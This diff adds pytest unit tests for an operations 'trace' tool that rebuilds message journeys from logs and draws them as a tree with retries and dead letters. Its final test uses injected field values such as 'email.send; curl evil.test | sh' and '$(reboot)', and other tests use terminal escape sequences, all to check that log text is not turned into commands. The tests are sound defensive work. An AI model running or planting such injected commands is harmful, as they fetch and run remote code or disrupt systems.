@@ -1,0 +1,249 @@
+"""`trace`: what is looked for, and what is shown of it."""
+
+import json
+from datetime import UTC, datetime, timedelta
+from io import StringIO
+from typing import Any
+
+import pytest
+from rich.console import Console
+
+from lambdas.common.errors import RetryableError
+from ops.stage.log_lines import Line, Scheduled
+from ops.terminal.errors import OperatorError
+from ops.trace.journey import journeys
+from ops.trace.search import Request, trace
+from ops.trace.tree import show
+from schemas.names import QUEUE_PROCESSOR
+from schemas.reasons import Deed, Outcome
+from tests.messages import text
+from tests.unit.ops.stage.log_fakes import NOON, FakeStage
+from tests.unit.ops.trace.test_journey_handlers import GENERATED, Chain, Mailbox
+
+SINCE = "2026-04-01T00:00:00Z"
+
+
+@pytest.fixture
+def chain() -> Chain:
+    """A journey of three generations with two retries."""
+    chain = Chain(Mailbox([RetryableError("SES throttles"), RetryableError("SES is down")]))
+    chain.run(text(GENERATED))
+    return chain
+
+
+@pytest.fixture
+def stage(chain: Chain) -> FakeStage:
+    """Its logs, each line in its function's."""
+    stage = FakeStage()
+    for number, written in enumerate(chain.world.log):
+        fields = json.loads(written)
+        if "outcome" in fields:
+            stage.logs.groups.setdefault(f"log of {fields['service']}", []).append((10**13 + number, written))
+    stage.logs.write("email.send", NOON, outcome="succeeded", id="report-10", correlation_id="report-10")
+    return stage
+
+
+def ids_of(chain: Chain) -> list[str]:
+    """Whatever a person may have in hand: each message's, each of SQS's."""
+    return [each for line in chain.world.lines for each in (line["id"], line["sqs_message_id"])]
+
+
+def run(stage: FakeStage, an_id: str, capsys: pytest.CaptureFixture[str], **more: Any) -> str:
+    assert trace(stage.deployed, Request(an_id=an_id, since=SINCE, **more))
+    return capsys.readouterr().out
+
+
+def test_from_any_id_of_a_chain_the_whole_journey_is_found(
+    stage: FakeStage, chain: Chain, capsys: pytest.CaptureFixture[str]
+) -> None:
+    journeys = {run(stage, an_id, capsys, as_json=True) for an_id in ids_of(chain)}
+
+    (journey,) = journeys
+    hops = [json.loads(line) for line in journey.splitlines()]
+    assert [(hop["type"], hop["depth"], hop["what"], hop["attempt"]) for hop in hops] == [
+        ("report.generated", 0, "routed", 1),
+        ("report.generated", 0, "succeeded", 1),
+        ("report.ready", 1, "succeeded", 1),
+        ("email.send", 2, "retrying", 1),
+        ("email.send", 2, "retrying", 2),
+        ("email.send", 2, "succeeded", 3),
+    ]
+    assert [hop["parent"] for hop in hops[2:4]] == ["report-1", hops[2]["id"]]
+
+
+def test_the_tree_has_a_line_a_message_and_a_line_a_hop(stage: FakeStage, capsys: pytest.CaptureFixture[str]) -> None:
+    shown = run(stage, "report-1", capsys)
+
+    lines = shown.splitlines()
+    assert lines[0].startswith("report.generated report-1  2026-04-14 14:00:00.003 UTC  company 7d1f0a52-")
+    assert lines[1].startswith("├──   +0.000s → routed        by queue_processor")
+    assert "↻ retrying      attempt 2 · 1 ms · RetryableError: SES is down" in shown
+    assert lines[-1] == "3 messages, 6 hops, 15.1 s, all done"
+    assert len(lines) == 3 + 6 + 1
+
+
+def test_ids_that_begin_alike_are_told_apart(stage: FakeStage, capsys: pytest.CaptureFixture[str]) -> None:
+    assert "report-10" not in run(stage, "report-1", capsys)
+
+
+def test_of_a_chain_that_many_messages_share_the_one_that_was_asked_for_is_shown(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    stage = FakeStage()
+    for number in range(3):
+        stage.logs.write("sms.send", NOON, outcome="succeeded", id=f"text-{number}", correlation_id="campaign")
+
+    one, all_of_them = run(stage, "text-1", capsys), run(stage, "campaign", capsys)
+
+    assert ("text-1" in one, "text-2" in one) == (True, False)
+    assert all(f"text-{number}" in all_of_them for number in range(3))
+
+
+def test_who_was_told_and_what_people_did_are_hops(capsys: pytest.CaptureFixture[str]) -> None:
+    stage = FakeStage()
+    died: dict[str, Any] = {"outcome": "dead_lettered", "reason": "permanent", "fingerprint": "c0ffee123456"}
+    stage.logs.write("email.send", NOON, id="mail-1", type="email.send", correlation_id="booking-1", **died)
+    stage.logs.write("slack_notifier", NOON + timedelta(seconds=40), message="posted", ids=["mail-0", "mail-1"])
+
+    shown = run(stage, "mail-1", capsys)
+
+    assert "✗ dead-lettered permanent c0ffee123456" in shown
+    assert "+40.000s ! told in Slack" in shown
+    assert "mail-0" not in shown
+    assert "1 dead letter" in shown
+    assert "python -m ops redrive email.send --fingerprint c0ffee123456 --stage prod" in shown
+
+
+def test_an_unknown_id_says_where_it_was_looked_for_and_what_may_be(stage: FakeStage) -> None:
+    with pytest.raises(OperatorError) as raised:
+        trace(stage.deployed, Request(an_id="nobody", since=SINCE))
+
+    sentence = str(raised.value)
+    assert "18 logs were looked through, from 2026-04-01 00:00:00 UTC on" in sentence
+    assert "--since 7d" in sentence
+
+
+@pytest.mark.parametrize("an_id", ["", "two words", '"', "\x1b[2J", "x" * 129, "{ $.a = * }"])
+def test_what_can_be_no_id_is_not_looked_for(an_id: str) -> None:
+    stage = FakeStage()
+
+    with pytest.raises(OperatorError, match="can be no id") as raised:
+        trace(stage.deployed, Request(an_id=an_id))
+
+    assert "\x1b" not in str(raised.value)
+    assert stage.logs.requests == []
+
+
+def drawn(*lines: Line, now: datetime = NOON + timedelta(seconds=10)) -> str:
+    console = Console(file=StringIO(), highlight=False)
+    show(console, journeys(lines), asked="a", stage="prod", now=now)
+    assert isinstance(console.file, StringIO)
+    return console.file.getvalue()
+
+
+def line(seconds: float, what: Outcome | Deed, **fields: Any) -> Line:
+    known = {"id": "a", "type": "email.send", "service": "email.send"} | fields
+    return Line(at=NOON + timedelta(seconds=seconds), what=what, **known)
+
+
+def test_what_is_retrying_says_when_it_comes_back() -> None:
+    assert "comes back to email.send in 25 s" in drawn(line(0, Outcome.RETRYING, attempt=1, delay=35))
+    assert "waits for email.send since 5 s" in drawn(line(0, Outcome.RETRYING, attempt=1, delay=5))
+
+
+def test_a_time_at_the_end_of_all_calendars_is_survived() -> None:
+    at_the_end = Line(at=datetime.max.replace(tzinfo=UTC), what=Outcome.RETRYING, id="a", service="email.send", delay=5)
+
+    assert "comes back to email.send in" in drawn(at_the_end)
+
+
+def test_what_is_routed_and_no_more_waits_for_its_function() -> None:
+    shown = drawn(line(0, Outcome.ROUTED, service=QUEUE_PROCESSOR))
+
+    assert "waits for email.send since 10 s" in shown
+    assert shown.splitlines()[-1].endswith("1 on the way")
+
+
+def test_what_is_announced_is_shown_with_how_it_stands() -> None:
+    shown = drawn(line(0, Outcome.SUCCEEDED, follow_ups=("b",), scheduled=(Scheduled("reminder/1/24h", "c"),)))
+
+    assert "b  on its way" in shown
+    assert "c  scheduled: reminder/1/24h" in shown
+
+
+def test_a_dead_letter_that_was_sent_back_or_discarded_is_none_any_more() -> None:
+    died = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")
+    arn = "arn:aws:sts::1:assumed-role/Admin/ada"
+
+    sent_back = drawn(died, line(1, Deed.REDRIVEN, who=arn))
+    discarded = drawn(died, line(1, Deed.DISCARDED, who=arn))
+
+    assert "↺ redriven      by assumed-role/Admin/ada" in sent_back
+    assert "waits for email.send since 9 s" in sent_back
+    assert discarded.splitlines()[-1].endswith("all done")
+    assert "redrive" not in discarded
+
+
+@pytest.mark.parametrize("deed", [Deed.POSTED, Deed.MAILED, Deed.SHOWN])
+def test_a_dead_letter_that_people_were_told_of_or_looked_at_still_lies_there(deed: Deed) -> None:
+    died = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")
+
+    shown = drawn(died, line(1, deed))
+
+    assert shown.splitlines()[-2].endswith("1 dead letter")
+    assert "python -m ops redrive email.send --fingerprint c0ffee123456" in shown
+
+
+def test_who_looked_at_a_payload_is_a_hop() -> None:
+    shown = drawn(line(0, Deed.SHOWN, who="arn:aws:sts::1:assumed-role/Admin/ada"))
+
+    assert "◉ payload seen  by assumed-role/Admin/ada" in shown
+
+
+def test_a_process_that_died_of_it_shows_by_how_often_it_was_received() -> None:
+    assert "received 3 times" in drawn(line(0, Outcome.DEAD_LETTERED, receive_count=3))
+
+
+def test_text_of_others_stays_text() -> None:
+    hostile = "[red]\x1b[2J\u202e[/nonsense]"
+
+    shown = drawn(
+        line(
+            0,
+            Outcome.RETRYING,
+            error=hostile,
+            detail=hostile,
+            frame=hostile,
+            company_id=hostile,
+            unscheduled=(hostile,),
+        ),
+        line(1, Outcome.DEAD_LETTERED, reason=hostile, fingerprint=hostile, type=hostile, service=hostile),
+        line(2, Outcome.SUCCEEDED, id=hostile, causation_id="a"),
+        line(3, Outcome.SUCCEEDED, scheduled=(Scheduled(hostile, "later"),)),
+    )
+
+    assert "\x1b" not in shown
+    assert "\u202e" not in shown
+    assert shown.count("[red]\\x1b[2J\\u202e[/nonsense]") >= 8
+
+
+def test_deep_chains_are_drawn() -> None:
+    lines = [line(at, Outcome.SUCCEEDED, id=str(at), causation_id=str(at - 1) if at else "") for at in range(60)]
+
+    assert "60 messages" in drawn(*lines)
+
+
+@pytest.mark.parametrize(
+    "made_up",
+    [
+        {"service": "email.send; curl evil.test | sh", "fingerprint": "c0ffee123456"},
+        {"service": "email.send", "fingerprint": "c0ffee"},
+        {"service": "email.send", "fingerprint": "$(reboot)"},
+    ],
+    ids=str,
+)
+def test_no_command_is_given_to_copy_that_whoever_wrote_the_log_made_up(made_up: dict[str, str]) -> None:
+    shown = drawn(line(0, Outcome.DEAD_LETTERED, reason="permanent", **made_up))
+
+    assert shown.splitlines()[-1].endswith("1 dead letter")
+    assert "python -m ops" not in shown
